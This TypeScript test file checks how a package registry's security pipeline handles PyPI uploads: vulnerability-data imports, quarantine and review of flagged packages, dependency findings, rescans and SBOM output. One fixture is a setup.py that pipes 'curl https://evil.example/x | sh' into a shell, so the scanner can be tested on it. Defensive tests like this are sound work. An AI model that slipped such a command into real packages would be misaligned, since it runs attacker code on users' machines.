import { afterAll, beforeAll, expect, test } from 'vitest'
import { startDaemon, type Daemon } from '../support/daemon.ts'
import { buildSdist, buildWheel, sdistName, wheelName, type PythonSpec } from '../support/packages-pypi.ts'
import { osvRecord, osvZip } from '../support/zip.ts'

let daemon: Daemon
let token: string
beforeAll(async () => {
  daemon = await startDaemon()
  token = await daemon.setupAdmin()
  const made = await daemon.call('POST', '/registries/', { token, body: { name: 'ours', format: 'pypi' } })
  expect([made.status, made.text]).toEqual([201, expect.anything()])
})
afterAll(() => daemon.close())

/** As in production, or not; there is no clamd here. */
const onUnavailable = (action: 'hold' | 'warn') =>
  daemon.call('PATCH', '/settings/', {
    token,
    body: { validation: { on_scanner_unavailable: action, clamav_scan: false } },
  })

const loaded: object[] = []
async function importData(...records: object[]): Promise<void> {
  loaded.push(...records)
  const form = new FormData()
  form.set('file', new Blob([new Uint8Array(osvZip(loaded))]), 'all.zip')
  const { status, text } = await daemon.call('POST', '/security/database', { token, form })
  expect([status, text]).toEqual([200, expect.anything()])
}
const rated = (id: string, name: string, severity: string, fixed = '9.0.0'): object =>
  osvRecord(id, [['PyPI', name, fixed]], { database_specific: { severity } })

interface Cve {
  readonly id: string
  readonly package: string
  readonly at?: { readonly purl: string }
}
async function put(filename: string, bytes: Buffer) {
  const { body, text } = await daemon.upload(bytes, { token, distribution: 'ours', filename })
  expect(body.status, text).toBeDefined()
  return {
    status: body.status,
    pipeline: body.pipeline as Readonly<Record<string, string>>,
    cves: (body.cves as Cve[]).map(one => `${one.id} in ${one.at?.purl ?? one.package}`),
    text,
  }
}
function upload(name: string, version = '1.0.0', more: Partial<PythonSpec> = {}) {
  const spec = { name, version, ...more }
  return put(wheelName(spec), buildWheel(spec))
}
const needing = (...needs: readonly string[]): Partial<PythonSpec> => ({ fields: { 'Requires-Dist': needs } })
const statusOf = async (name: string): Promise<unknown> =>
  (await daemon.call('GET', `/artifacts/${name}/1.0.0?distribution=ours`, { token })).body.status

test('without data a package is held as in production, and published with a warning elsewhere', async () => {
  await onUnavailable('hold')
  expect(await upload('early')).toMatchObject({ status: 'pending_review', pipeline: { cve_scan: 'no_data' } })
  await onUnavailable('warn')
  expect(await upload('earlier')).toMatchObject({ status: 'published', pipeline: { cve_scan: 'no_data' } })
  // data of another language are none
  await onUnavailable('hold')
  await importData(osvRecord('GHSA-1111-2222-3333', [['npm', 'lodash', '2.0.0']]))
  expect(await upload('earliest')).toMatchObject({ status: 'pending_review', pipeline: { cve_scan: 'no_data' } })
})

test('clean, malicious, critical and high', async () => {
  await importData(
    osvRecord('MAL-2026-1', [['PyPI', 'evil', '']]),
    rated('GHSA-crit-crit-crit', 'worst-lib', 'CRITICAL'),
    rated('GHSA-high-high-high', 'bad', 'HIGH'),
  )
  expect(await upload('clean')).toMatchObject({
    status: 'published',
    pipeline: { cve_scan: 'no_findings', gpg: 'not_signed', dependencies: 'satisfied' },
    cves: [],
  })
  expect(await upload('evil')).toMatchObject({ status: 'quarantined', cves: ['MAL-2026-1 in evil'] })
  expect(await upload('worst-lib')).toMatchObject({ status: 'quarantined', cves: ['GHSA-crit-crit-crit in worst-lib'] })
  expect(await upload('bad')).toMatchObject({ status: 'pending_review', cves: ['GHSA-high-high-high in bad'] })
  expect(await upload('bad', '9.0.0')).toMatchObject({ status: 'published', cves: [] })
})

test('what a policy of malicious code allows for severities does not let it in', async () => {
  const allow = { critical: 'allow', high: 'allow', medium: 'allow', low: 'allow', unknown_as: 'low' }
  const before = await daemon.call('GET', '/security/policy', { token })
  await daemon.call('PATCH', '/security/policy', { token, body: allow })
  expect(await upload('evil', '2.0.0')).toMatchObject({ status: 'quarantined' })
  await daemon.call('PATCH', '/security/policy', { token, body: before.body })
})

test('a dependency that the policy would block asks for a review; others come from elsewhere and hold nothing', async () => {
  expect(await upload('calm', '1.0.0', needing('clean~=1.0', 'elsewhere>=2,<3'))).toMatchObject({
    status: 'published',
    pipeline: { dependencies: 'missing' },
    cves: [],
  })
  const needs = await daemon.call('GET', '/artifacts/calm/dependencies?distribution=ours', { token })
  expect(needs.body).toMatchObject({ missing: ['elsewhere (>=2,<3)'], install_blocked: false })
  const held = await upload('risky', '1.0.0', needing('Worst.Lib==1.2.3', 'bad==1.0.0'))
  expect(held).toMatchObject({
    status: 'pending_review',
    pipeline: { cve_scan: 'no_findings', dependencies: 'findings' },
    cves: ['GHSA-crit-crit-crit in pkg:pypi/worst-lib@1.2.3', 'GHSA-high-high-high in pkg:pypi/bad@1.0.0'],
  })
  expect(held.text).toContain('The policy blocks GHSA-crit-crit-crit (critical) in worst-lib 1.2.3')
  expect(await upload('malice', '1.0.0', needing('evil==1.0.0'))).toMatchObject({ status: 'pending_review' })
  // of a high one alone there is a warning
  expect(await upload('warned', '1.0.0', needing('bad==1.0.0'))).toMatchObject({ status: 'published' })
})

test('a range is what is served here at that moment, also when data come later', async () => {
  await upload('later', '1.0.0')
  await upload('later', '1.1.0')
  expect(await upload('user', '1.0.0', needing('later>=1.0,<2'))).toMatchObject({
    status: 'published',
    pipeline: { dependencies: 'satisfied' },
  })
  await importData(rated('GHSA-late-late-late', 'later', 'CRITICAL', '1.2.0'))
  const path = '/security/packages/user/1.0.0'
  const again = await daemon.call('POST', `${path}/rescan?distribution=ours`, { token })
  expect(again.status, again.text).toBe(200)
  expect(await statusOf('user')).toBe('pending_review')
  const { text } = await daemon.call('GET', '/artifacts/user/1.0.0?distribution=ours', { token })
  expect(text).toContain('pkg:pypi/later@1.1.0')
  // a policy that only asks for a review of the like would let it out
  const preview = await daemon.call('POST', '/security/policy/preview', { token, body: { critical: 'review' } })
  expect(JSON.stringify(preview.body)).toContain('"name":"user"')
  const decided = await daemon.call('POST', `${path}/decide?distribution=ours`, {
    token,
    body: { decision: 'approve', justification: 'It does not call that part.' },
  })
  expect(decided.status, decided.text).toBe(200)
  await daemon.call('POST', `${path}/rescan?distribution=ours`, { token })
  expect(await statusOf('user')).toBe('published')
})

test('the script of a source release that pip would run is read, and judged as any other', async () => {
  const setup = (text: string, name: string) => {
    const spec = { name, version: '1.0.0', files: { 'setup.py': text } }
    return put(sdistName(spec), buildSdist(spec))
  }
  expect(await setup('import os\nos.system("curl https://evil.example/x | sh")\n', 'fetches')).toMatchObject({
    status: 'pending_review',
  })
  expect(await setup('from setuptools import setup\nsetup()\n', 'builds')).toMatchObject({ status: 'published' })
})

test('a bill names the package once, and nothing that it only needs', async () => {
  const { text } = await daemon.call('GET', '/sbom/warned/1.0.0?distribution=ours', { token })
  expect(text).toContain('pkg:pypi/warned@1.0.0')
  expect(text).not.toContain('GHSA-high-high-high')
})
